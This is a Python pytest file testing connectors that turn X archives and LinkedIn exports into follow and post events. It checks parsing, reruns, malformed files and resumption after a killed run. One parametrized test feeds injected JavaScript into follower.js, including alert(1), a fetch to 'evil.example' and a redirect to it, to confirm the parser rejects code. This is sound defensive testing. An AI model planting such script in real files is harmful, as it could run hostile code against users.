"""The X archive and LinkedIn export connectors, on exports written by tests/fixtures_archives.py."""

from __future__ import annotations

import asyncio
import zipfile
from collections import Counter
from datetime import timedelta
from pathlib import Path

import pytest

from pipeline.sources.config import ArchiveConfig, ArchiveSource
from pipeline.sources.events import event_id
from pipeline.sources.linkedin import LinkedInConnector
from pipeline.sources.run import AccountsFailed
from pipeline.sources.x_archive import XArchiveConnector
from schemas.events import AccountStats, Event, Follow, Post
from tests.fixtures_archives import (
    CONTACTS,
    GENERATED,
    LINKEDIN_PROFILE,
    SAVED,
    SHARES,
    X_FOLLOWERS,
    Contact,
    Truth,
    linkedin_export,
    x_archive,
)
from tests.sources_support import Killed, MemoryCheckpoints, MemoryOutput, connection

EMPLOYEE = "emp-alice"


def run(
    network: str,
    path: Path,
    checkpoints: MemoryCheckpoints,
    output: MemoryOutput | None = None,
    *,
    account_id: str | None = None,
    followers_count: int | None = None,
    progress: list[str] | None = None,
) -> MemoryOutput:
    """One connector run over one export; returns what it sent."""
    output = output if output is not None else MemoryOutput()
    conn = connection(network, output, checkpoints)
    if progress is not None:
        conn.progress = progress.append
    if network == "linkedin" and account_id is None:
        account_id = LINKEDIN_PROFILE
    source = ArchiveSource(
        employee_id=EMPLOYEE,
        path=str(path),
        account_id=account_id,
        followers_count=followers_count,
    )
    config = ArchiveConfig(archives=[source])
    connector = XArchiveConnector if network == "x" else LinkedInConnector
    asyncio.run(connector(config, conn).run())
    return output


def follow(network: str, truth: Truth, follower: str, action: str, generation: int) -> Follow:
    return Follow(
        event_id=event_id(network, action, truth.account_id, follower, str(generation)),
        occurred_at=truth.taken_at,
        network=network,
        account_id=truth.account_id,
        follower_id=follower,
        action=action,  # type: ignore[arg-type]
    )


def expected(network: str, truth: Truth) -> list[Event]:
    """A first read of `truth`: every follower a follow, then the posts, oldest first."""
    follows = [follow(network, truth, f, "follow", 1) for f in sorted(truth.followers)]
    posts = [
        Post(
            event_id=event_id(network, "post", post_id),
            occurred_at=post.occurred_at,
            post_id=post_id,
            employee_id=EMPLOYEE,
            network=network,
            account_id=truth.account_id,
            text=post.text,
            lang=post.lang,
            url=post.url,
            kind=post.kind,  # type: ignore[arg-type]
            in_reply_to=post.in_reply_to,
            in_reply_to_author=post.in_reply_to_author,
        )
        for post_id, post in sorted(truth.posts.items(), key=lambda item: item[1].occurred_at)
    ]
    return [*follows, *posts]


# -- X -------------------------------------------------------------------------------------------


@pytest.mark.parametrize("zipped", [False, True], ids=["folder", "zip"])
def test_x_archive_gives_its_followers_and_posts(tmp_path: Path, zipped: bool) -> None:
    truth = x_archive(tmp_path, zipped=zipped)
    lines: list[str] = []
    output = run("x", truth.path, MemoryCheckpoints(), progress=lines)

    assert output.events == expected("x", truth)
    posts = {e.post_id: e for e in output.events if isinstance(e, Post)}
    assert [posts[i].kind for i in sorted(posts)] == ["original", "reply", "repost"]
    assert posts["1862000000000000001"].text == (
        "Chorus 2.0 is out & it is fast: https://example.com/blog/chorus-2 #launch"
    )
    assert posts["1862100000000000002"].lang is None  # X's "und"
    assert {e.occurred_at for e in output.events if isinstance(e, Follow)} == {GENERATED}
    assert lines == [
        f"x @alice_chorus (4711): archive made {GENERATED.isoformat()}, 5 followers (+5 -0), "
        "3 new posts"
    ]


def test_x_rerun_sends_nothing_and_counts_through_the_shared_connection(tmp_path: Path) -> None:
    truth = x_archive(tmp_path)
    checkpoints = MemoryCheckpoints()
    conn = connection("x", MemoryOutput(), checkpoints)
    config = ArchiveConfig(archives=[ArchiveSource(employee_id=EMPLOYEE, path=str(truth.path))])
    asyncio.run(XArchiveConnector(config, conn).run())
    # The follows went through a connection with the archive's clock: still counted here.
    assert conn.sent == Counter(follow=5, post=3)

    assert run("x", truth.path, checkpoints).events == []
    assert run("x", x_archive(tmp_path / "copy", zipped=True).path, checkpoints).events == []


def test_x_newer_archive_sends_the_changes_at_its_time(tmp_path: Path) -> None:
    checkpoints = MemoryCheckpoints()
    run("x", x_archive(tmp_path / "nov").path, checkpoints)
    later = GENERATED + timedelta(days=7)
    newer = x_archive(tmp_path / "dec", followers=[*X_FOLLOWERS[1:], "1006"], generated=later)

    assert run("x", newer.path, checkpoints).events == [
        follow("x", newer, "1001", "unfollow", 2),
        follow("x", newer, "1006", "follow", 2),
    ]


def test_x_older_archive_is_skipped(tmp_path: Path) -> None:
    checkpoints = MemoryCheckpoints()
    newer = x_archive(tmp_path / "dec", generated=GENERATED + timedelta(days=7))
    run("x", newer.path, checkpoints)
    older = x_archive(tmp_path / "nov", followers=X_FOLLOWERS[:2])
    lines: list[str] = []

    assert run("x", older.path, checkpoints, progress=lines).events == []
    assert len(lines) == 1
    assert "skipped" in lines[0] and str(older.path) in lines[0]
    assert run("x", newer.path, checkpoints).events == []  # the newer list is still the last


def test_x_archive_without_manifest_is_stamped_at_its_files_time(tmp_path: Path) -> None:
    truth = x_archive(tmp_path, zipped=True, generated=None)
    assert truth.taken_at == SAVED
    assert run("x", truth.path, MemoryCheckpoints()).events == expected("x", truth)


def test_x_older_tweet_js_is_read(tmp_path: Path) -> None:
    truth = x_archive(tmp_path)
    tweets = truth.path / "data" / "tweets.js"
    (truth.path / "data" / "tweet.js").write_bytes(
        tweets.read_bytes().replace(b"window.YTD.tweets.", b"window.YTD.tweet.", 1)
    )
    tweets.unlink()
    assert run("x", truth.path, MemoryCheckpoints()).events == expected("x", truth)


def test_x_configured_account_must_be_the_archives(tmp_path: Path) -> None:
    truth = x_archive(tmp_path)
    assert run("x", truth.path, MemoryCheckpoints(), account_id="4711").events
    with pytest.raises(AccountsFailed, match=r"data/account\.js is @alice_chorus, accountId 4711"):
        run("x", truth.path, MemoryCheckpoints(), account_id="9999")


FOLLOWERS = b'[{"follower": {"accountId": "1001", "userLink": "u"}}]'


@pytest.mark.parametrize(
    "content",
    [
        b"window.YTD.follower.part0 = " + FOLLOWERS + b"; alert(1)",
        b"alert(1);\nwindow.YTD.follower.part0 = " + FOLLOWERS,
        b"window.YTD.follower.part0 = (function () { fetch('https://evil.example'); return []; })()",
        b"window.YTD.follower.part0 = " + FOLLOWERS + b"\nwindow.location = 'https://evil.example'",
        b"var followers = " + FOLLOWERS,
        FOLLOWERS,
    ],
    ids=["code-after", "code-before", "function", "second-statement", "other-name", "bare-json"],
)
def test_x_file_is_json_after_the_assignment_or_an_error(tmp_path: Path, content: bytes) -> None:
    truth = x_archive(tmp_path)
    (truth.path / "data" / "follower.js").write_bytes(content)
    output = MemoryOutput()
    checkpoints = MemoryCheckpoints()
    with pytest.raises(
        AccountsFailed, match=r"data/follower\.js is not `window\.YTD\.<name>\.partN"
    ):
        run("x", truth.path, checkpoints, output)
    assert output.events == [] and checkpoints.values == {}


@pytest.mark.parametrize(
    ("file", "content", "message"),
    [
        (
            "data/follower.js",
            b'window.YTD.follower.part0 = [{"follower": {"accountId"',
            "malformed",
        ),
        (
            "data/follower-part1.js",
            b'window.YTD.follower.part1 = [{"follower": {"userLink": "u"}}]',
            r"data/follower-part1\.js: Object missing required field `accountId` - at `\$\[0\]",
        ),
        (
            "data/tweets.js",
            b'window.YTD.tweets.part0 = [{"tweet": {"id_str": "1", "full_text": "hi", '
            b'"created_at": "2026-11-30T10:00:00Z"}}]',
            r"data/tweets\.js: tweet 1 created_at '2026-11-30T10:00:00Z' is not like",
        ),
        ("data/account.js", b"window.YTD.account.part0 = []", r"data/account\.js has 0 accounts"),
        ("data/follower-part3.js", b"window.YTD.follower.part3 = []", r"parts \[0, 1, 3\]"),
        ("data/manifest.js", b"window.__THAR_CONFIG = {", r"data/manifest\.js is not `window"),
    ],
    ids=["bad-json", "no-account-id", "bad-date", "no-account", "missing-part", "bad-manifest"],
)
@pytest.mark.parametrize("zipped", [False, True], ids=["folder", "zip"])
def test_x_malformed_file_is_an_error_naming_it(
    tmp_path: Path, file: str, content: bytes, message: str, zipped: bool
) -> None:
    truth = x_archive(tmp_path / "archive")
    (truth.path / file).write_bytes(content)
    path = truth.path
    if zipped:
        path = tmp_path / "archive.zip"
        with zipfile.ZipFile(path, "w") as archive:
            for item in truth.path.rglob("*"):
                archive.write(item, item.relative_to(truth.path).as_posix())
    with pytest.raises(AccountsFailed, match=message) as error:
        run("x", path, MemoryCheckpoints())
    assert f"{path}: " in str(error.value)


@pytest.mark.parametrize(
    ("missing", "message"),
    [
        (["data/account.js"], r"data/account\.js is missing"),
        (["data/follower.js"], r"data/follower has parts \[1\], some are missing"),
        (["data/follower.js", "data/follower-part1.js"], r"data/follower\.js is missing"),
        (["data/tweets.js"], r"data/tweets\.js \(or data/tweet\.js\) is missing"),
    ],
    ids=["account", "first-part", "followers", "tweets"],
)
def test_x_missing_file_is_an_error_naming_it(
    tmp_path: Path, missing: list[str], message: str
) -> None:
    truth = x_archive(tmp_path)
    for file in missing:
        (truth.path / file).unlink()
    with pytest.raises(AccountsFailed, match=message):
        run("x", truth.path, MemoryCheckpoints())


def test_archive_that_is_neither_folder_nor_zip_is_a_config_error(tmp_path: Path) -> None:
    (tmp_path / "archive.txt").write_text("not an archive")
    with pytest.raises(AccountsFailed, match=r"not a folder nor a \.zip"):
        run("x", tmp_path / "archive.txt", MemoryCheckpoints())
    with pytest.raises(AccountsFailed, match=r"not a folder nor a \.zip"):
        run("linkedin", tmp_path / "nowhere", MemoryCheckpoints())


# -- LinkedIn ------------------------------------------------------------------------------------


@pytest.mark.parametrize("zipped", [False, True], ids=["folder", "zip"])
def test_linkedin_export_gives_its_connections_and_shares(tmp_path: Path, zipped: bool) -> None:
    truth = linkedin_export(tmp_path, zipped=zipped)
    lines: list[str] = []
    output = run("linkedin", truth.path, MemoryCheckpoints(), progress=lines)

    assert output.events == expected("linkedin", truth)
    assert truth.followers == {
        "https://www.linkedin.com/in/jane-doe-1234",
        "https://www.linkedin.com/in/bob-smith",
        "https://www.linkedin.com/in/chen-li-0a1b2c",
    }
    share = next(e for e in output.events if isinstance(e, Post) and e.post_id == SHARES[0].link)
    assert share.text.splitlines()[2] == '- ship "small"'
    assert lines == [
        f"linkedin https://www.linkedin.com/in/alice-chorus: export saved {SAVED.isoformat()}, "
        "4 connections (+3 -0; 1 without a profile address, not listed), 2 new shares"
    ]


def test_linkedin_note_lines_are_skipped_and_may_be_absent(tmp_path: Path) -> None:
    with_notes = linkedin_export(tmp_path / "a")
    assert (with_notes.path / "Connections.csv").read_text().startswith('Notes:\n"When exporting')
    without = linkedin_export(tmp_path / "b", notes=False)
    first = run("linkedin", with_notes.path, MemoryCheckpoints()).events
    assert run("linkedin", without.path, MemoryCheckpoints()).events == first


def test_linkedin_rerun_sends_nothing(tmp_path: Path) -> None:
    truth = linkedin_export(tmp_path)
    checkpoints = MemoryCheckpoints()
    run("linkedin", truth.path, checkpoints, followers_count=1200)
    assert run("linkedin", truth.path, checkpoints, followers_count=1200).events == []


def test_linkedin_newer_export_sends_the_changes_at_its_time(tmp_path: Path) -> None:
    checkpoints = MemoryCheckpoints()
    run("linkedin", linkedin_export(tmp_path / "dec").path, checkpoints)
    erin = Contact("Erin", "Park", "https://www.linkedin.com/in/erin-park", "Hooli", "10 Dec 2026")
    newer = linkedin_export(
        tmp_path / "jan", contacts=[*CONTACTS[1:], erin], saved=SAVED + timedelta(days=30)
    )

    assert run("linkedin", newer.path, checkpoints).events == [
        follow("linkedin", newer, "https://www.linkedin.com/in/erin-park", "follow", 2),
        follow("linkedin", newer, "https://www.linkedin.com/in/jane-doe-1234", "unfollow", 2),
    ]


def test_linkedin_older_export_is_skipped(tmp_path: Path) -> None:
    checkpoints = MemoryCheckpoints()
    newer = linkedin_export(tmp_path / "jan", zipped=True, saved=SAVED + timedelta(days=30))
    run("linkedin", newer.path, checkpoints)
    lines: list[str] = []
    older = linkedin_export(tmp_path / "dec", zipped=True, contacts=CONTACTS[:1])

    assert run("linkedin", older.path, checkpoints, progress=lines).events == []
    assert len(lines) == 1 and "skipped" in lines[0]


def test_linkedin_followers_count_gives_account_stats(tmp_path: Path) -> None:
    truth = linkedin_export(tmp_path, shares=None)
    checkpoints = MemoryCheckpoints()
    output = run("linkedin", truth.path, checkpoints, followers_count=1200)

    def stats(count: int) -> AccountStats:
        return AccountStats(
            event_id=event_id(
                "linkedin", "account_stats", truth.account_id, str(count), SAVED.isoformat()
            ),
            occurred_at=SAVED,
            network="linkedin",
            account_id=truth.account_id,
            followers_count=count,
        )

    assert truth.posts == {}
    assert output.events == [*expected("linkedin", truth), stats(1200)]
    assert run("linkedin", truth.path, checkpoints, followers_count=1250).events == [stats(1250)]


@pytest.mark.parametrize(
    ("file", "content", "message"),
    [
        ("Connections.csv", "Notes:\nnothing here\n", r"Connections\.csv has no header line URL"),
        (
            "Shares.csv",
            "Date,ShareLink,ShareCommentary\n2026-11-30 14:03:11,https://l/1,ok\n"
            '30/11/2026,https://l/2,"two\nlines"\n',
            r"Shares\.csv line 3: Date '30/11/2026' is not like 2026-11-30 14:03:11",
        ),
        (
            "Shares.csv",
            "Date,ShareLink\n2026-11-30 14:03:11,\n",
            r"Shares\.csv line 2: no ShareLink",
        ),
        ("Connections.csv", 'URL\n"https://cut-here\n', r"Connections\.csv line 2: unexpected end"),
    ],
    ids=["no-header", "bad-date", "no-link", "bad-csv"],
)
def test_linkedin_malformed_file_is_an_error_naming_it(
    tmp_path: Path, file: str, content: str, message: str
) -> None:
    truth = linkedin_export(tmp_path)
    (truth.path / file).write_text(content)
    with pytest.raises(AccountsFailed, match=message):
        run("linkedin", truth.path, MemoryCheckpoints())


def test_linkedin_missing_connections_is_an_error(tmp_path: Path) -> None:
    truth = linkedin_export(tmp_path)
    (truth.path / "Connections.csv").unlink()
    with pytest.raises(AccountsFailed, match=r"Connections\.csv is missing"):
        run("linkedin", truth.path, MemoryCheckpoints())


# -- both ----------------------------------------------------------------------------------------


@pytest.mark.parametrize("network", ["x", "linkedin"])
def test_killed_run_resumed_gives_the_same_events(tmp_path: Path, network: str) -> None:
    """Killed after every possible number of events, in a first read and in a newer one."""
    later = timedelta(days=30)
    if network == "x":
        first = x_archive(tmp_path / "a")
        second = x_archive(
            tmp_path / "b", followers=[*X_FOLLOWERS[2:], "1006"], generated=GENERATED + later
        )
    else:
        first = linkedin_export(tmp_path / "a")
        erin = Contact("Erin", "Park", "https://www.linkedin.com/in/erin-park")
        second = linkedin_export(
            tmp_path / "b", contacts=[*CONTACTS[2:], erin], saved=SAVED + later
        )
    count = 1200 if network == "linkedin" else None

    whole = MemoryCheckpoints()
    uninterrupted = [
        set(run(network, archive.path, whole, followers_count=count).ids())
        for archive in (first, second)
    ]
    for step, archive in enumerate((first, second)):
        for kill_after in range(len(uninterrupted[step])):
            checkpoints = MemoryCheckpoints()
            if step == 1:
                run(network, first.path, checkpoints, followers_count=count)
            killed = MemoryOutput(kill_after=kill_after)
            with pytest.raises(Killed):
                run(network, archive.path, checkpoints, killed, followers_count=count)
            resumed = run(network, archive.path, checkpoints, followers_count=count)
            assert set(killed.ids()) | set(resumed.ids()) == uninterrupted[step], kill_after
            assert run(network, archive.path, checkpoints, followers_count=count).events == []


def test_a_broken_archive_does_not_stop_the_others(tmp_path: Path) -> None:
    broken = x_archive(tmp_path / "broken").path
    (broken / "data" / "follower.js").write_text("window.YTD.follower.part0 = [oops")
    good = x_archive(tmp_path / "good")
    output, progress = MemoryOutput(), list[str]()
    conn = connection("x", output, MemoryCheckpoints())
    conn.progress = progress.append
    config = ArchiveConfig(
        archives=[
            ArchiveSource(employee_id="e1", path=str(broken)),
            ArchiveSource(employee_id="e2", path=str(good.path)),
        ]
    )
    with pytest.raises(AccountsFailed, match=r"1 account\(s\) failed.*broken.*follower\.js"):
        asyncio.run(XArchiveConnector(config, conn).run())
    assert {e.follower_id for e in output.events if isinstance(e, Follow)} == good.followers
    assert any("broken" in line and "failed" in line for line in progress)
